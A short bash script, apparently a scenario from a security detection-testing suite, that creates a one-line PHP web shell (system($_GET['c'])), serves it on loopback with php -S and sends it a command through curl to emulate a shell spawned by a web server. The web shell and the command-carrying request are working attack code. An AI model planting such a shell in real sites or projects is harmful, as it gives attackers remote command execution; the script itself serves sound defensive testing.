#!/usr/bin/env bash
# Shell spawned by a web server: a PHP web shell (`system($_GET['c'])`) served by `php -S` on
# loopback; the attacker's request makes php run `sh -c CMD`.
. "$(dirname "$0")/../lib.sh"
scn_begin service-php-webshell T1059.004
scn_require php curl
scn_tmpdir SCN_WORK
mkdir "$SCN_WORK/www"
printf '<?php system($_GET["c"]); ?>\n' >"$SCN_WORK/www/shell.php"
port=$(scn_free_port)
php -S "127.0.0.1:$port" -t "$SCN_WORK/www" >/dev/null 2>&1 &
server=$!
scn_track $server
printf 'SCENARIO-INFO service_pid=%s\n' "$server"
scn_wait_listen "$port"
SCN_OUT="$SCN_WORK/out"
curl -sS -G --max-time 10 "http://127.0.0.1:$port/shell.php" \
    --data-urlencode 'c=echo SCN-MARK pid=$$ ppid=$PPID; id' >"$SCN_OUT"
scn_shell_finish
